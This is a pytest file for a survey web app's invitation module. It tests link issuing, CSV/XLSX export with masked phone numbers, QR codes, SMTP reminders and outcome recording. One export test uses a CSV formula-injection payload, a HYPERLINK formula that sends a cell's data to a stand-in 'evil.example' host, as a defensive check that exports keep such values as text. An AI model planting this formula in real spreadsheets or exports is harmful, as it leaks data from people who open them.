"""Invitations: issue links for a sample, export CSV/XLSX, QR codes, SMTP reminders."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from survey_app.accounts.models import AuditEvent
from survey_app.core import db
from survey_app.fieldwork.models import Invitation, InvitationStatus
from survey_app.fieldwork.services import invitations_export

from ..admin_world import World, build_world, frame_csv, make_draw, make_frame


@pytest.fixture
def world(app: Flask) -> World:
    return build_world(app)


def _issue(client: FlaskClient, world: World) -> None:
    assert client.post(f"/admin/draws/{world.draw.id}/invitations/issue").status_code == 302


def test_issue_export_and_qr(app: Flask, world: World, session: Session) -> None:
    client = world.client_for(app, "owner")
    page = client.get(f"/admin/draws/{world.draw.id}/invitations").get_data(as_text=True)
    assert "Issue personal links to 30 units" in page and "STRATA_SMTP_URL" in page
    assert client.get(f"/admin/draws/{world.draw.id}/invitations.csv").status_code == 409  # nothing issued yet
    _issue(client, world)
    _issue(client, world)  # issuing again adds nothing
    assert session.scalar(select(func.count(Invitation.id))) == 30
    page = client.get(f"/admin/draws/{world.draw.id}/invitations").get_data(as_text=True)
    assert "/r/" in page and "qr.svg" in page
    assert "138******" in page and "13800000" not in page  # contact data masked on screen
    assert invitations_export.mask("13800001234") == "138******34" and invitations_export.mask("abc") == "***"

    export = client.get(f"/admin/draws/{world.draw.id}/invitations.csv")
    assert export.status_code == 200 and export.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(export.data.decode("utf-8-sig"))))
    assert len(rows) == 30 and set(rows[0]) == {"unit_id", "stratum", "phone", "token", "link", "status", "reminders_sent"}
    tokens = set(session.scalars(select(Invitation.token)))
    written = {r["token"]: r["token"].removeprefix("'") for r in rows}  # a token starting with "-" is written '-... (exporters)
    assert set(written.values()) == tokens and all(t == w or t == "'" + w and w.startswith("-") for t, w in written.items())
    assert all(r["link"] == f"http://localhost/r/{written[r['token']]}" for r in rows) and rows[0]["phone"].startswith("138")

    xlsx = client.get(f"/admin/draws/{world.draw.id}/invitations.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][:2] == ("unit_id", "stratum") and len(values) == 31

    invitation = session.scalars(select(Invitation)).first()
    assert invitation is not None
    svg = client.get(f"/admin/invitations/{invitation.id}/qr.svg")
    assert svg.mimetype == "image/svg+xml" and b"<svg" in svg.data
    png = client.get(f"/admin/invitations/{invitation.id}/qr.png")
    assert png.mimetype == "image/png" and png.data.startswith(b"\x89PNG")
    assert client.get(f"/admin/invitations/{invitation.id}/qr.gif").status_code == 422
    exports = session.scalars(select(AuditEvent.details).where(AuditEvent.action == "invitation.export")).all()
    assert exports == [{"format": "csv", "rows": 30}, {"format": "xlsx", "rows": 30}]


def test_exports_keep_formula_looking_frame_values_as_text(app: Flask, world: World, session: Session) -> None:
    formulas = ['"=HYPERLINK(""http://evil.example/?d=""&A1,""open"")"', "+1", "-2+3", "@SUM(A1)"]  # frames strip leading tabs
    lines = ["unit_id,school,size,phone"] + [f"f{i:02d},{formulas[i % 2 + 1]},3,{formulas[i % len(formulas)]}" for i in range(10)]
    with db.session_factory(app)() as s:
        frame = make_frame(app, s, s.merge(world.project), s.merge(world.users["owner"]), ("\n".join(lines) + "\n").encode())
        draw = make_draw(s, s.merge(world.project), frame, s.merge(world.users["owner"]), n=10)
        draw_id = draw.id
    typed = [next(csv.reader([value]))[0] for value in formulas]
    client = world.client_for(app, "owner")
    assert client.post(f"/admin/draws/{draw_id}/invitations/issue").status_code == 302
    rows = list(csv.DictReader(io.StringIO(client.get(f"/admin/draws/{draw_id}/invitations.csv").data.decode("utf-8-sig"))))
    assert sorted(r["phone"] for r in rows) == sorted("'" + typed[i % len(typed)] for i in range(10))
    assert {r["stratum"] for r in rows} == {"'+1", "'-2+3"} and {r["reminders_sent"] for r in rows} == {"0"}
    sheet = load_workbook(io.BytesIO(client.get(f"/admin/draws/{draw_id}/invitations.xlsx").data)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    assert sorted(v[2] for v in values) == sorted("'" + typed[i % len(typed)] for i in range(10))
    assert {v[1] for v in values} == {"'+1", "'-2+3"} and {v[-1] for v in values} == {0}


def test_xlsx_export_of_frame_values_with_control_characters(app: Flask, world: World, session: Session) -> None:
    lines = ["unit_id,school,size,phone"] + [f"f{i:02d},s{i % 2},3,138\x01{i:04d}\x1f5" for i in range(10)]
    with db.session_factory(app)() as s:
        frame = make_frame(app, s, s.merge(world.project), s.merge(world.users["owner"]), ("\n".join(lines) + "\n").encode())
        draw_id = make_draw(s, s.merge(world.project), frame, s.merge(world.users["owner"]), n=10).id
    client = world.client_for(app, "owner")
    assert client.post(f"/admin/draws/{draw_id}/invitations/issue").status_code == 302
    text = client.get(f"/admin/draws/{draw_id}/invitations.csv").data.decode("utf-8-sig")
    assert "138\x010000\x1f5" in text  # CSV keeps every character
    xlsx = client.get(f"/admin/draws/{draw_id}/invitations.xlsx")
    assert xlsx.status_code == 200
    phones = {row[2] for row in load_workbook(io.BytesIO(xlsx.data)).active.iter_rows(min_row=2, values_only=True)}
    assert phones == {f"138\ufffd{i:04d}\ufffd5" for i in range(10)}  # XML has no control characters: U+FFFD instead


class FakeSMTP:
    sent: list[Any] = []
    logins: list[tuple[str, str]] = []

    def __init__(self, host: str, port: int, timeout: int) -> None:
        self.address = (host, port)

    def __enter__(self) -> FakeSMTP:
        return self

    def __exit__(self, *exc: object) -> None:
        return None

    def starttls(self) -> None:
        return None

    def login(self, user: str, password: str) -> None:
        FakeSMTP.logins.append((user, password))

    def send_message(self, message: Any) -> None:
        FakeSMTP.sent.append(message)


def test_reminders_by_email(app: Flask, world: World, session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    owner = session.merge(world.users["owner"])
    project = session.merge(world.project)
    content = frame_csv(20).replace(b"unit_id,school,size,phone", b"unit_id,school,size,email")
    lines = content.decode().splitlines()
    lines = [lines[0]] + [f"{line.rsplit(',', 1)[0]},{'' if i % 4 == 0 else f'p{i}@example.org'}" for i, line in enumerate(lines[1:])]
    frame = make_frame(app, session, project, owner, ("\n".join(lines) + "\n").encode(), contact=["email"])
    draw = make_draw(session, project, frame, owner, n=20)
    client = world.client_for(app, "owner")
    assert client.post(f"/admin/draws/{draw.id}/invitations/issue").status_code == 302
    first = session.scalars(select(Invitation).where(Invitation.project_id == project.id).order_by(Invitation.id)).first()
    assert first is not None
    first.status = InvitationStatus.SUBMITTED
    session.commit()

    disabled = client.post(f"/admin/draws/{draw.id}/invitations/remind", data={"body": "Go: {link}"})
    assert disabled.status_code == 409 and "disabled" in disabled.get_data(as_text=True)

    app.config["SMTP_URL"] = "smtp://mailer%40example.org:s3cret@mail.example.org:2525?from=survey@example.org"
    monkeypatch.setattr(invitations_export.smtplib, "SMTP", FakeSMTP)
    FakeSMTP.sent, FakeSMTP.logins = [], []
    assert "mail.example.org:2525" in client.get(f"/admin/draws/{draw.id}/invitations").get_data(as_text=True)
    no_link = client.post(f"/admin/draws/{draw.id}/invitations/remind", data={"body": "no link here"})
    assert no_link.status_code == 422 and FakeSMTP.sent == []
    sent = client.post(f"/admin/draws/{draw.id}/invitations/remind", data={"subject": "Please answer", "body": "Your link: {link}"})
    assert sent.status_code == 302
    with_email = list(FakeSMTP.sent)
    assert 10 <= len(with_email) < 20 and FakeSMTP.logins == [("mailer@example.org", "s3cret")]
    message = with_email[0]
    assert message["From"] == "survey@example.org" and message["Subject"] == "Please answer" and "http://localhost/r/" in message.get_content()
    session.expire_all()
    reminded = session.scalar(select(func.count(Invitation.id)).where(Invitation.reminders_sent == 1))
    assert reminded == len(with_email)
    assert session.get(Invitation, first.id).reminders_sent == 0  # type: ignore[union-attr]  # already submitted


def test_smtp_url_parsing() -> None:
    assert invitations_export.smtp_settings("") is None
    settings = invitations_export.smtp_settings("smtps://u:p@smtp.example.org?from=a@example.org")
    assert settings is not None and settings.port == 465 and settings.ssl and settings.sender == "a@example.org"
    with pytest.raises(Exception, match="no sender"):
        invitations_export.smtp_settings("smtp://smtp.example.org")
    with pytest.raises(Exception, match="not valid"):
        invitations_export.smtp_settings("http://smtp.example.org")


def test_field_outcomes(app: Flask, world: World, session: Session) -> None:
    client = world.client_for(app, "owner")
    _issue(client, world)
    keys = list(csv.DictReader(io.StringIO(client.get(f"/admin/draws/{world.draw.id}/invitations.csv").data.decode("utf-8-sig"))))
    first, second = keys[0]["unit_id"], keys[1]["unit_id"]
    bad = client.post(f"/admin/draws/{world.draw.id}/invitations/outcomes", data={"outcomes": f"{first},refused\nnobody,refused\n{second},lost"})
    assert bad.status_code == 422
    page = bad.get_data(as_text=True)
    assert "&#39;nobody&#39; has no invitation" in page and "&#39;lost&#39; is not one of" in page
    assert session.scalar(select(func.count(Invitation.id)).where(Invitation.status == InvitationStatus.REFUSED)) == 0
    good = client.post(f"/admin/draws/{world.draw.id}/invitations/outcomes", data={"outcomes": f"{first},refused\n{second}\tnot_reached\n"})
    assert good.status_code == 302
    statuses = dict(session.execute(select(Invitation.status, func.count(Invitation.id)).group_by(Invitation.status)).all())
    assert statuses[InvitationStatus.REFUSED] == 1 and statuses[InvitationStatus.NOT_REACHED] == 1
    monitoring = client.get(f"/admin/projects/{world.project.id}/monitoring").get_data(as_text=True)
    assert "Refused" in monitoring
    event = session.scalars(select(AuditEvent).where(AuditEvent.action == "invitation.outcomes")).one()
    assert event.details == {"changed": {first: ["issued", "refused"], second: ["issued", "not_reached"]}}
